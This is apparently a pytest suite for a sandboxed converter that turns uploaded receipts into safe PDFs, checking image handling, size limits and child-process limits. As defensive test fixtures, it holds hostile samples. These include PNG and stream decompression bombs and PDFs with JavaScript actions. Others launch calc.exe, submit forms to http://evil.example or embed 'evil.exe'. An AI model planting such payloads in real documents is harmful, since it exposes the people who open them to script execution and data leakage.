"""Receipts become upright, safe PDFs, or a sentence; no file can hurt the process that asks."""

from __future__ import annotations

import io
import json
import os
import random
import re
import subprocess
import sys
from pathlib import Path

import pikepdf
import pytest
from PIL import Image, ImageChops, ImageStat

from crm.invoices import rules, sandbox
from crm.invoices.sandbox import Result, convert
from tests import make_files

# Starts the child and tells its peak memory. A process of its own, since a child is born with its parent's peak.
MEASURE = """
import json, resource, subprocess, sys
answer = subprocess.run(sys.argv[1:], capture_output=True, check=True).stdout
print(json.dumps([json.loads(answer), resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024]))
"""


@pytest.fixture
def target(tmp_path: Path) -> Path:
    return tmp_path / "receipt.pdf"


def made(content: bytes, target: Path) -> Result:
    return convert(make_files.save(target.parent, content), target)


def refusal(content: bytes, target: Path) -> str:
    """Convert what has to be refused, and return the sentence."""
    result = made(content, target)
    assert result.pages == 0
    assert not target.exists()
    return result.reason


def peak(content: bytes, target: Path) -> tuple[dict[str, object], int]:
    """Convert in the child and return its answer and its peak memory in MB."""
    source = make_files.save(target.parent, content)
    child = [sys.executable, "-P", str(sandbox.CHILD), str(source), str(target)]
    told = subprocess.run([sys.executable, "-c", MEASURE, *child], capture_output=True, check=True).stdout
    answer, megabytes = json.loads(told)
    return answer, megabytes


def rendered(target: Path) -> Image.Image:
    """Return the one picture on the one page, having checked that it fills it."""
    with pikepdf.open(target) as pdf:
        assert len(pdf.pages) == 1
        page = pdf.pages[0]
        [image] = page.get_images().values()
        left, bottom, right, top = (float(value) for value in page.mediabox)
        assert (left, bottom) == (0, 0)
        assert max(right, top) == pytest.approx(842, abs=0.01)
        shown = pikepdf.PdfImage(image).as_pil_image()
        assert right / top == pytest.approx(shown.width / shown.height, rel=0.001)
        drawn = page.Contents.read_bytes().split()
        assert float(drawn[1]) == pytest.approx(right, abs=0.01)
        assert float(drawn[4]) == pytest.approx(top, abs=0.01)
        return shown.convert("RGB")


def colour(image: Image.Image, across: float, down: float) -> tuple[int, ...]:
    pixel = image.getpixel((int(image.width * across), int(image.height * down)))
    assert isinstance(pixel, tuple)
    return pixel


def assert_upright(image: Image.Image, tolerance: int = 12) -> None:
    expected = {**make_files.COLOURS, "bottom right": (255, 255, 255)}
    places = {"top left": (0.25, 0.25), "top right": (0.75, 0.25)}
    places |= {"bottom left": (0.25, 0.75), "bottom right": (0.75, 0.75)}
    for corner, place in places.items():
        assert colour(image, *place) == pytest.approx(expected[corner], abs=tolerance), corner


# Pictures


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
@pytest.mark.parametrize("orientation", range(1, 9))
def test_every_exif_orientation_comes_out_upright(orientation: int, kind: str, target: Path) -> None:
    assert made(make_files.oriented(orientation, kind), target) == Result(1)

    image = rendered(target)
    assert image.size == (240, 160)
    assert_upright(image)


def test_an_orientation_that_makes_no_sense_is_passed_over(target: Path) -> None:
    assert made(make_files.oriented(99), target) == Result(1)
    assert_upright(rendered(target))


def test_a_damaged_note_about_a_picture_is_passed_over(target: Path) -> None:
    content = make_files.oriented(6)
    start = content.index(b"Exif\0\0") + 6
    for broken in (b"XX", b"MM\0\x2a\xff\xff\xff\xff", b"MM\0\x2a\0\0\0\x08\xff\xff" + b"\xff" * 40):
        assert made(content[:start] + broken + content[start + len(broken) :], target) == Result(1)
        assert rendered(target).size == (160, 240)


def test_neither_place_nor_camera_nor_file_name_reach_the_pdf(target: Path) -> None:
    source = make_files.oriented(6)
    assert b"Exif" in source
    assert b"SecretCamera" in source

    made(source, target)

    pdf = target.read_bytes()
    assert b"Exif" not in pdf
    assert b"SecretCamera" not in pdf
    with pikepdf.open(target) as document:
        assert "/Title" not in document.docinfo


@pytest.mark.parametrize("mode", ["RGB", "RGBA", "P"])
def test_colour_pngs_keep_their_colours(mode: str, target: Path) -> None:
    assert made(make_files.encode(make_files.picture(mode), "PNG"), target) == Result(1)
    assert_upright(rendered(target))


@pytest.mark.parametrize("mode", ["CMYK", "YCbCr"])
def test_jpegs_of_other_colour_spaces_keep_their_colours(mode: str, target: Path) -> None:
    assert made(make_files.encode(make_files.picture(mode), "JPEG", quality=95), target) == Result(1)
    assert_upright(rendered(target))


@pytest.mark.parametrize("mode", ["L", "LA", "1", "I;16"])
def test_grey_pngs_keep_their_shades(mode: str, target: Path) -> None:
    scale = 257 if mode.startswith("I") else 1
    shades = Image.new("L" if scale == 1 else "I", (200, 100), 255 * scale)
    if mode != "1":
        shades.paste(100 * scale, (0, 0, 100, 100))
    else:
        shades.paste(0, (0, 0, 100, 100))

    assert made(make_files.encode(shades.convert(mode), "PNG"), target) == Result(1)

    image = rendered(target)
    assert colour(image, 0.25, 0.5) == pytest.approx((0 if mode == "1" else 100,) * 3, abs=3)
    assert colour(image, 0.75, 0.5) == pytest.approx((255,) * 3, abs=3)


def test_a_grey_jpeg_stays_grey(target: Path) -> None:
    assert made(make_files.encode(Image.new("L", (100, 50), 77), "JPEG"), target) == Result(1)
    with pikepdf.open(target) as pdf:
        [image] = pdf.pages[0].get_images().values()
        assert image.ColorSpace == "/DeviceGray"


@pytest.mark.parametrize("mode", ["RGBA", "LA", "P", "L", "RGB", "1"])
def test_what_is_transparent_becomes_white(mode: str, target: Path) -> None:
    options: dict[str, object] = {}
    if mode in ("RGBA", "LA"):
        image = Image.new("RGBA", (200, 100), (0, 0, 0, 0))
        image.paste((0, 0, 0, 255), (0, 0, 100, 100))
        image = image.convert(mode)
    else:
        seen, unseen = {"P": (1, 0), "L": (0, 9), "RGB": ((0, 0, 0), (9, 9, 9)), "1": (255, 0)}[mode]
        image = Image.new(mode, (200, 100), unseen)
        if mode == "P":
            image.putpalette([9, 9, 9, 0, 0, 0])
        image.paste(seen, (0, 0, 100, 100))
        options["transparency"] = unseen

    assert made(make_files.encode(image, "PNG", **options), target) == Result(1)

    black = (255, 255, 255) if mode == "1" else (0, 0, 0)
    assert colour(rendered(target), 0.25, 0.5) == pytest.approx(black, abs=6)
    assert colour(rendered(target), 0.75, 0.5) == pytest.approx((255, 255, 255), abs=6)


def test_half_transparent_is_mixed_with_white(target: Path) -> None:
    made(make_files.encode(Image.new("RGBA", (50, 50), (0, 0, 0, 128)), "PNG"), target)
    assert colour(rendered(target), 0.5, 0.5) == pytest.approx((127, 127, 127), abs=3)


def test_of_several_pictures_in_one_file_the_first_counts(target: Path) -> None:
    other = Image.new("RGB", (240, 160), "black")
    for kind in ("PNG", "MPO"):
        content = make_files.encode(make_files.picture(), kind, save_all=True, append_images=[other, other])
        assert made(content, target) == Result(1)
        assert_upright(rendered(target), 20)


def test_a_large_picture_is_shrunk_without_seams(target: Path) -> None:
    stripes = Image.frombytes("L", (1, 1700), random.Random(2).randbytes(1700))
    source = stripes.resize((4100, 1700), Image.Resampling.NEAREST)
    made(make_files.encode(source, "PNG"), target)

    shown = rendered(target).convert("L")
    assert shown.size == (3000, 1244)
    off = ImageChops.difference(shown, source.resize(shown.size, Image.Resampling.LANCZOS))
    rows = [ImageStat.Stat(off.crop((0, row, off.width, row + 1))).mean[0] for row in range(off.height)]
    assert max(rows) <= 6


def test_a_large_jpeg_is_never_made_coarser_than_it_has_to_be(target: Path) -> None:
    made(make_files.encode(make_files.photo((6000, 4000)), "JPEG"), target)
    assert max(rendered(target).size) >= 2400
    made(make_files.encode(make_files.photo((2900, 700)), "JPEG"), target)
    assert rendered(target).size == (2900, 700)


def test_a_tiny_picture_fills_the_page_too(target: Path) -> None:
    made(make_files.encode(Image.new("RGB", (1, 1), "red"), "PNG"), target)
    assert rendered(target).size == (1, 1)


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_a_picture_cut_off_anywhere_is_a_sentence(kind: str, target: Path) -> None:
    whole = make_files.encode(make_files.photo((400, 300)), kind)
    for part in (0.01, 0.05, 0.2, 0.4, 0.6, 0.8, 0.95):
        assert refusal(whole[: int(len(whole) * part)], target) in (rules.DAMAGED_PICTURE, rules.WRONG_TYPE)


@pytest.mark.parametrize("start", [b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n"])
def test_noise_after_a_good_beginning_is_a_sentence(start: bytes, target: Path) -> None:
    assert refusal(start, target) == rules.DAMAGED_PICTURE
    assert refusal(start + bytes(5000), target) in (rules.DAMAGED_PICTURE, rules.TOO_NARROW)
    assert refusal(start + os.urandom(5000), target) in (
        rules.DAMAGED_PICTURE,
        rules.TOO_MANY_PIXELS,
        rules.TOO_NARROW,
    )


def test_a_flipped_bit_in_the_pixels_of_a_png_is_a_sentence(target: Path) -> None:
    content = bytearray(make_files.encode(make_files.photo((400, 300)), "PNG"))
    content[len(content) // 2] ^= 0x10
    assert refusal(bytes(content), target) == rules.DAMAGED_PICTURE


def test_a_picture_of_too_many_pixels_is_refused_before_it_is_unpacked(target: Path) -> None:
    for content in (make_files.png_bomb(), make_files.png_bomb(colour=0), make_files.jpeg_of_size(60_000, 60_000)):
        answer, megabytes = peak(content, target)
        assert answer == {"reason": rules.TOO_MANY_PIXELS}
        assert megabytes < 40


def test_a_progressive_picture_may_have_fewer_pixels_since_it_is_unpacked_whole(target: Path) -> None:
    fine = make_files.jpeg_of_size(8160, 6120, progressive=True, subsampling=0)
    assert refusal(fine, target) == rules.TOO_MANY_PIXELS
    usual = make_files.jpeg_of_size(8160, 6120, progressive=True, subsampling=2)
    assert made(usual, target) == Result(1)


def test_a_picture_that_would_be_a_line_is_refused(target: Path) -> None:
    content = make_files.encode(Image.new("RGB", (5000, 2)), "PNG")
    assert refusal(content, target) == rules.TOO_NARROW
    assert refusal(make_files.jpeg_of_size(2, 5000), target) == rules.TOO_NARROW


def test_a_photo_of_12_megapixels_takes_little_memory(target: Path) -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    answer, megabytes = peak(make_files.encode(make_files.photo((4032, 3024)), "JPEG", exif=exif), target)
    assert answer == {"pages": 1}
    assert rendered(target).size == (2250, 3000)
    assert megabytes <= 120
    assert target.stat().st_size < 2_000_000


def test_the_largest_pictures_stay_within_the_limit(target: Path) -> None:
    large = make_files.photo((8160, 6120))
    for content in (
        make_files.encode(large, "JPEG", quality=60),
        make_files.encode(large, "JPEG", quality=60, progressive=True),
        make_files.png_bomb(8000, 8000, colour=6),
    ):
        answer, megabytes = peak(content, target)
        assert answer == {"pages": 1}
        assert megabytes <= 400


# What is accepted at all


REFUSED = {
    "empty": (b"", rules.EMPTY),
    "text": (b"hello", rules.WRONG_TYPE),
    "svg": (b"<svg xmlns='http://www.w3.org/2000/svg'/>", rules.WRONG_TYPE),
    "zip": (b"PK\x03\x04" + bytes(100), rules.WRONG_TYPE),
    "heic": (b"\0\0\0\x18ftypheic" + bytes(100), rules.HEIC),
    "blank before PDF": (b" " + make_files.pdf(), rules.WRONG_TYPE),
    "program before PDF": (b"MZ\x90\0" + make_files.pdf(), rules.WRONG_TYPE),
    "PDF without its end": (make_files.pdf()[:-10], rules.DAMAGED_PDF),
    "PNG bomb": (make_files.png_bomb(13_000, 13_000, 0), rules.TOO_MANY_PIXELS),
    "large": (b"%PDF-1.7\n" + bytes(rules.MAX_BYTES), rules.TOO_BIG),
}


@pytest.mark.parametrize(("content", "sentence"), REFUSED.values(), ids=REFUSED)
def test_the_request_and_the_worker_refuse_by_content(content: bytes, sentence: str, target: Path) -> None:
    with pytest.raises(rules.Refused, match=re.escape(sentence)):
        rules.check_upload(io.BytesIO(content))
    assert refusal(content, target) == sentence


@pytest.mark.parametrize("kind", ["GIF", "WEBP", "TIFF", "BMP", "ICO"])
def test_other_pictures_are_refused(kind: str, target: Path) -> None:
    assert refusal(make_files.encode(make_files.picture(), kind), target) == rules.WRONG_TYPE


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (make_files.pdf(), "pdf"),
        (make_files.encode(make_files.picture(), "PNG"), "png"),
        (make_files.encode(make_files.picture(), "JPEG"), "jpeg"),
        (make_files.encode(make_files.picture(), "MPO"), "jpeg"),
    ],
    ids=["pdf", "png", "jpeg", "mpo"],
)
def test_the_request_knows_the_kind_and_leaves_the_file_at_its_beginning(content: bytes, kind: str) -> None:
    file = io.BytesIO(content)
    assert rules.check_upload(file) == kind
    assert file.tell() == 0


def test_ten_megabytes_are_accepted(target: Path) -> None:
    content = make_files.encode(make_files.picture(), "JPEG")
    full = content + bytes(rules.MAX_BYTES - len(content))
    assert made(full, target) == Result(1)
    assert refusal(full + b"\0", target) == rules.TOO_BIG


def test_the_name_of_a_file_counts_for_nothing(target: Path) -> None:
    png = make_files.encode(make_files.picture(), "PNG")
    assert convert(make_files.save(target.parent, png, "bill.pdf"), target) == Result(1)
    assert_upright(rendered(target))
    assert convert(make_files.save(target.parent, make_files.pdf(2), "bill.jpg"), target) == Result(2)


def test_what_hides_behind_a_picture_or_pdf_is_gone(target: Path) -> None:
    evil = b"<script>alert(1)</script>PK\x05\x06"
    pictures = make_files.picture()
    for content in (
        make_files.encode(pictures, "JPEG", comment=evil) + evil,
        make_files.encode(pictures, "PNG") + evil,
        make_files.pdf() + evil,
    ):
        assert made(content, target).pages == 1
        assert evil not in target.read_bytes()


# The process


def test_the_child_knows_no_secrets_and_loads_no_application(target: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_KEY", "very secret")
    spy = make_files.save(
        target.parent,
        b"import json, os, runpy, sys\n"
        b"sys.argv = sys.argv[1:]\n"
        b"runpy.run_path(sys.argv[0], run_name='__main__')\n"
        b"json.dump([sorted(os.environ), sorted(sys.modules)], open(sys.argv[2] + '.spy', 'w'))\n",
        "spy.py",
    )
    real = subprocess.run
    monkeypatch.setattr(
        sandbox.subprocess, "run", lambda command, **rest: real([*command[:2], str(spy), *command[2:]], **rest)
    )

    assert made(make_files.encode(make_files.picture(), "JPEG"), target) == Result(1)

    variables, modules = json.loads(target.with_suffix(".pdf.spy").read_text())
    assert "SECRET_KEY" not in variables
    assert {"PIL.Image", "crm.invoices.rules"} <= set(modules)
    assert not {"flask", "sqlalchemy", "obstore", "pikepdf", "crm.db"} & set(modules)


@pytest.mark.parametrize(
    ("does", "sentence"),
    [
        ("import os; os.abort()", rules.UNREADABLE),
        ("raise ZeroDivisionError", rules.UNREADABLE),
        ("print('not an answer')", rules.UNREADABLE),
        ("import os; os.kill(os.getpid(), 9)", rules.INTERRUPTED),
        ("import os; os.kill(os.getpid(), 15)", rules.INTERRUPTED),
        ("import os, signal; os.kill(os.getpid(), signal.SIGXCPU)", rules.TOO_COMPLEX),
        ("import os, signal; os.kill(os.getpid(), signal.SIGALRM)", rules.TOO_COMPLEX),
    ],
)
def test_every_end_of_the_child_is_a_sentence(
    does: str, sentence: str, target: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    half = "import sys; open(sys.argv[2], 'w').write('half')\n"
    child = make_files.save(target.parent, (half + does).encode(), "fake.py")
    monkeypatch.setattr(sandbox, "CHILD", child)
    assert refusal(b"any", target) == sentence


def test_a_child_that_hangs_is_ended(target: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    child = make_files.save(target.parent, b"import time; time.sleep(60)", "fake.py")
    monkeypatch.setattr(sandbox, "CHILD", child)
    monkeypatch.setattr(sandbox, "SECONDS", 0.5)
    assert refusal(b"any", target) == rules.TOO_COMPLEX


def test_a_child_that_cannot_be_started_is_a_sentence(target: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox.sys, "executable", "/nowhere/python")
    assert refusal(make_files.pdf(), target) == rules.INTERRUPTED


@pytest.mark.parametrize(
    ("does", "sentence"),
    [
        ("bytearray(500 * 1024 * 1024)", rules.TOO_COMPLEX),
        ("open(target, 'wb').write(bytes(60 * 1024 * 1024))", rules.TOO_COMPLEX),
        ("raise OSError(28, 'No space left on device')", rules.INTERRUPTED),
        ("signal.setitimer(signal.ITIMER_REAL, 0.1); time.sleep(60)", rules.TOO_COMPLEX),
        ("assert 20 <= signal.alarm(0) <= 30 and os.nice(0) >= 10", ""),
        ("assert resource.getrlimit(resource.RLIMIT_CPU)[0] <= 30", ""),
    ],
)
def test_the_child_limits_itself(does: str, sentence: str, target: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    text = sandbox.CHILD.read_text().replace("Path(__file__)", f"Path({str(sandbox.CHILD)!r})")
    instead = f"def convert(source, target):\n    import time\n    {does}\n    return 1\n\n\nif __name__"
    child = make_files.save(target.parent, text.replace("if __name__", instead).encode(), "fake.py")
    monkeypatch.setattr(sandbox, "CHILD", child)
    assert made(make_files.pdf(), target) == Result(0 if sentence else 1, sentence)


def test_ending_the_worker_from_the_terminal_leaves_the_child_alone(
    target: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    child = make_files.save(target.parent, b"import os; print(os.getsid(0) == os.getpid())", "fake.py")
    seen = []
    monkeypatch.setattr(sandbox, "CHILD", child)
    monkeypatch.setattr(sandbox, "_result", lambda done: seen.append(done.stdout) or Result(1))
    made(b"any", target)
    assert seen == [b"True\n"]


# PDFs

JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"

ACTIVE = {
    "open action": make_files.page_pdf(catalog=b"/OpenAction " + JAVASCRIPT),
    "open action elsewhere": make_files.page_pdf(catalog=b"/OpenAction 10 0 R", more={10: JAVASCRIPT}),
    "catalog event": make_files.page_pdf(catalog=b"/AA << /WC " + JAVASCRIPT + b" >>"),
    "page event": make_files.page_pdf(page=b"/AA << /O " + JAVASCRIPT + b" >>"),
    "name tree": make_files.page_pdf(
        catalog=b"/Names << /JavaScript << /Kids [10 0 R] >> >>",
        more={10: b"<< /Limits [(a) (a)] /Names [(a) 11 0 R] >>", 11: JAVASCRIPT},
    ),
    "script in a stream": make_files.page_pdf(
        catalog=b"/OpenAction << /S /JavaScript /JS 10 0 R >>", more={10: make_files.stream(b"app.alert(1)")}
    ),
    "escaped name": make_files.page_pdf(catalog=b"/OpenAction << /#53 /Java#53cript /J#53 (app.alert\\(1\\)) >>"),
    "name in an object of its own": make_files.page_pdf(
        page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 10 0 R /JS (app.alert\\(1\\)) >> >>]",
        more={10: b"/JavaScript"},
    ),
    "annotation": make_files.page_pdf(
        page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + JAVASCRIPT + b" >>]"
    ),
    "annotations elsewhere": make_files.page_pdf(
        page=b"/Annots 10 0 R",
        more={10: b"[11 0 R]", 11: b"<< /Subtype /Link /Rect [0 0 9 9] /A 12 0 R >>", 12: JAVASCRIPT},
    ),
    "after a harmless action": make_files.page_pdf(
        page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] /Next ["
        + JAVASCRIPT
        + b"] >> >>]"
    ),
    "field": make_files.page_pdf(
        catalog=b"/AcroForm << /Fields [10 0 R] >>",
        page=b"/Annots [10 0 R]",
        more={10: b"<< /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K " + JAVASCRIPT + b" >> >>"},
    ),
    "kid of a field": make_files.page_pdf(
        catalog=b"/AcroForm << /Fields [<< /T (a) /Kids [<< /FT /Btn /A " + JAVASCRIPT + b" >>] >>] >>"
    ),
    "bookmark": make_files.page_pdf(
        catalog=b"/Outlines 10 0 R",
        more={
            10: b"<< /First 11 0 R /Last 11 0 R /Count 1 >>",
            11: b"<< /Title (a) /Parent 10 0 R /A " + JAVASCRIPT + b" >>",
        },
    ),
    "unheard-of place": make_files.page_pdf(catalog=b"/Zz [[<< /Yy [" + JAVASCRIPT + b"] >>]]"),
    "launch": make_files.page_pdf(
        page=b"/Annots [<< /Subtype /Link /A << /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >> >>]"
    ),
    "submit": make_files.page_pdf(catalog=b"/Zz << /S /SubmitForm /F (http://evil.example/submit) >>"),
    "import": make_files.page_pdf(catalog=b"/Zz << /S /ImportData /F (evil.fdf) >>"),
    "another file": make_files.page_pdf(catalog=b"/Zz << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>"),
    "embedded file": make_files.page_pdf(catalog=b"/Zz << /S /GoToE /F (evil.pdf) /D [0 /Fit] >>"),
    "script link": make_files.page_pdf(catalog=b"/Zz << /S /URI /URI (javascript:app.alert\\(1\\)) >>"),
    "file link": make_files.page_pdf(catalog=b"/Zz << /S /URI /URI (file://evil.example/share) >>"),
    "attachment": make_files.page_pdf(
        catalog=b"/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >> /AF [10 0 R] /Collection << /View /D >>",
        more={
            10: b"<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 11 0 R >> >>",
            11: make_files.stream(b"evil program", b"/Type /EmbeddedFile"),
        },
    ),
    "attachment without a type": make_files.page_pdf(
        page=b"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (evil.exe) /EF << /F 11 0 R >> >> >>]",
        more={11: make_files.stream(b"evil program")},
    ),
    "attachment in an unheard-of place": make_files.page_pdf(
        catalog=b"/Zz << /F (a.exe) /EF << /F 11 0 R >> >>", more={11: make_files.stream(b"evil program")}
    ),
    "opens at a place": make_files.page_pdf(catalog=b"/OpenAction [3 0 R /Fit]"),
    "sound elsewhere": make_files.page_pdf(catalog=b"/Zz << /S /Sound /Volume 1 >>"),
    "film elsewhere": make_files.page_pdf(catalog=b"/Zz << /S /Rendition /OP 0 >>"),
    "film": make_files.page_pdf(
        page=b"/Annots [<< /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /JS (app.alert\\(1\\)) /OP 0 >> >>]"
    ),
    "rich media": make_files.page_pdf(
        page=b"/Annots [<< /Subtype /RichMedia /RichMediaContent << /Assets << >> /Evil (evil.swf) >> >>]"
    ),
    "sound and 3D": make_files.page_pdf(
        page=b"/Annots [<< /Subtype /Sound /Sound 10 0 R >> << /Subtype /3D /3DD 11 0 R >>]",
        more={10: make_files.stream(b"evil sound"), 11: make_files.stream(b"evil model", b"/Type /3D")},
    ),
    "form that is a program": make_files.page_pdf(
        catalog=b"/NeedsRendering true /AcroForm << /Fields [] /XFA [(template) 10 0 R] >>",
        more={10: make_files.stream(b"<xdp>evil</xdp>")},
    ),
    "content from elsewhere": make_files.page_pdf(
        page=b"/Resources << /XObject << /X 10 0 R >> >>",
        more={10: make_files.stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /F (http://evil.example/x)")},
    ),
    "loop of actions": make_files.page_pdf(
        catalog=b"/OpenAction 10 0 R",
        more={10: b"<< /S /JavaScript /JS (app.alert\\(1\\)) /Next 11 0 R >>", 11: b"<< /S /GoTo /Next 10 0 R >>"},
    ),
}


TRACES = [
    *(b"app.alert", b"evil", b"calc.exe", b"/JavaScript", b"/Launch", b"/Rendition", b"/OpenAction", b"/AA"),
    *(b"/EF", b"/EmbeddedFile", b"/Collection", b"/XFA", b"/NeedsRendering"),
    *(b"/RichMedia", b" /Sound", b"/Screen", b"/Subtype /3D"),
]


@pytest.mark.parametrize("content", ACTIVE.values(), ids=ACTIVE)
def test_active_content_is_taken_out(content: bytes, target: Path) -> None:
    assert made(content, target) == Result(1)

    with pikepdf.open(target, attempt_recovery=False) as pdf:
        assert pdf.pages[0].Contents.read_bytes() == b"0 0 1 rg 10 10 50 50 re f"
        assert not pdf.check_pdf_syntax()
        assert not pdf.attachments
        assert all(len(annotation) for annotation in pdf.pages[0].get("/Annots", []))
    text = target.with_suffix(".txt")
    readable(target, text)
    for trace in TRACES:
        assert trace not in text.read_bytes(), trace


def readable(source: Path, target: Path) -> None:
    """Unpack everything, so that traces can be searched for."""
    with pikepdf.open(source) as pdf:
        pdf.save(target, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)


def test_active_content_in_packed_objects_is_taken_out(target: Path) -> None:
    packed = io.BytesIO()
    with pikepdf.open(io.BytesIO(ACTIVE["name tree"])) as pdf:
        pdf.save(packed, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in packed.getvalue()

    assert made(packed.getvalue(), target) == Result(1)

    readable(target, target.with_suffix(".txt"))
    assert b"JavaScript" not in target.with_suffix(".txt").read_bytes()


def test_links_fields_and_pictures_stay(target: Path) -> None:
    content = make_files.page_pdf(
        catalog=b"/AcroForm << /Fields [11 0 R] >> /Outlines 12 0 R",
        page=b"/Annots [10 0 R 11 0 R] /Resources << /XObject << /AA 14 0 R >> >>",
        more={
            10: b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://shop.example/bill?id=1) >> >>",
            11: b"<< /Subtype /Widget /FT /Tx /T (total) /V (1.500) /Rect [0 0 9 9] >>",
            12: b"<< /First 13 0 R /Last 13 0 R /Count 1 >>",
            13: b"<< /Title (Total) /Parent 12 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>",
            14: make_files.stream(b"0 g", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]"),
        },
    )

    assert made(content, target) == Result(1)

    with pikepdf.open(target) as pdf:
        page = pdf.pages[0]
        assert str(page.Annots[0].A.URI) == "https://shop.example/bill?id=1"
        assert str(pdf.Root.AcroForm.Fields[0].V) == "1.500"
        assert pdf.Root.Outlines.First.A.D[0].objgen == page.obj.objgen
        assert page.Resources.XObject.AA.read_bytes() == b"0 g"


def test_pages_are_counted(target: Path) -> None:
    assert made(make_files.pdf(3), target) == Result(3)
    with pikepdf.open(target) as pdf:
        assert len(pdf.pages) == 3
        assert [page.mediabox[3] for page in pdf.pages] == [300, 300, 300]


def test_the_number_of_pages_has_bounds(target: Path) -> None:
    assert made(make_files.pdf(rules.MAX_PAGES), target) == Result(rules.MAX_PAGES)
    assert refusal(make_files.pdf(rules.MAX_PAGES + 1), target) == rules.TOO_MANY_PAGES
    assert refusal(make_files.pdf(0), target) == rules.NO_PAGES


@pytest.mark.parametrize(("user", "owner"), [("secret", "owner"), ("", "owner"), ("secret", "")])
def test_a_pdf_with_a_password_is_refused(user: str, owner: str, target: Path) -> None:
    assert refusal(make_files.protected_pdf(user, owner), target) == rules.PROTECTED


BROKEN = {
    "nothing but the name": b"%PDF-1.7\n%%EOF",
    "noise": b"%PDF-1.7\n" + bytes(range(256)) * 50 + b"%%EOF",
    "no catalog": make_files.raw_pdf({1: b"<< /Type /Other >>"}),
    "root is a number": make_files.raw_pdf({1: b"7"}),
    "no root": make_files.raw_pdf({1: b"<< /Type /Catalog >>"}, trailer=b""),
    "no page tree": make_files.raw_pdf({1: b"<< /Type /Catalog >>"}),
    "page tree is its own kid": make_files.raw_pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}
    ),
    "page tree in a circle": make_files.raw_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
        }
    ),
    "endless nesting": make_files.page_pdf(catalog=b"/X " + b"[" * 100_000 + b"]" * 100_000),
}


@pytest.mark.parametrize("content", BROKEN.values(), ids=BROKEN)
def test_a_broken_pdf_is_a_sentence(content: bytes, target: Path) -> None:
    assert refusal(content, target) in (rules.DAMAGED_PDF, rules.NO_PAGES)


def test_a_pdf_cut_off_anywhere_is_a_sentence(target: Path) -> None:
    whole = make_files.pdf(20)
    for part in (0.02, 0.3, 0.6, 0.9, 0.99):
        assert refusal(whole[: int(len(whole) * part)], target) == rules.DAMAGED_PDF


def test_a_pdf_with_a_wrong_table_of_contents_is_mended(target: Path) -> None:
    content = make_files.pdf(2).replace(b"startxref\n", b"startxref\n9")
    assert made(content, target) == Result(2)


@pytest.mark.parametrize(
    "content",
    [
        make_files.page_pdf(catalog=b"/A 10 0 R", more={10: b"[10 0 R 11 0 R]", 11: b"<< /B 10 0 R /C 11 0 R >>"}),
        make_files.page_pdf(page=b"/Annots [3 0 R]"),
        make_files.page_pdf(page=b"/Annots 3 0 R"),
        make_files.page_pdf(page=b"/Annots [null 7 (x) [] << >> 99 0 R]"),
        make_files.page_pdf(catalog=b"/AcroForm 1 0 R /Names 2 0 R"),
    ],
    ids=["objects in a circle", "page is its annotation", "page for a list", "not annotations", "wrong objects"],
)
def test_strange_references_hold_nothing_up(content: bytes, target: Path) -> None:
    assert made(content, target) == Result(1)


def test_a_stream_that_unpacks_to_gigabytes_is_not_unpacked(target: Path) -> None:
    answer, megabytes = peak(make_files.page_pdf(more={4: make_files.packed(1 << 30)}), target)
    assert answer == {"pages": 1}
    assert megabytes <= 120
    assert target.stat().st_size < 2_000_000


def test_packed_objects_that_unpack_to_gigabytes_are_a_sentence_within_the_limit(target: Path) -> None:
    bomb = make_files.packed(1 << 30).replace(b"<<", b"<< /Type /ObjStm /N 1 /First 10", 1)
    content = make_files.raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< >>", 5: bomb})
    # The table is packed itself: object 2 is said to be within stream 5.
    rows = {0: (0, 0, 0), 1: (1, content.index(b"1 0 obj"), 0), 2: (2, 5, 0), 5: (1, content.index(b"5 0 obj"), 0)}
    table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + bytes([rest]) for kind, place, rest in rows.values())
    body = content[: content.index(b"xref\n")]
    entries = b"/Type /XRef /W [1 4 1] /Size 7 /Index [0 3 5 1] /Root 1 0 R"
    full = body + b"6 0 obj\n" + make_files.stream(table, entries)
    full += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)

    answer, megabytes = peak(full, target)

    assert answer["reason"] in (rules.TOO_COMPLEX, rules.DAMAGED_PDF, rules.NO_PAGES)
    assert megabytes <= 400
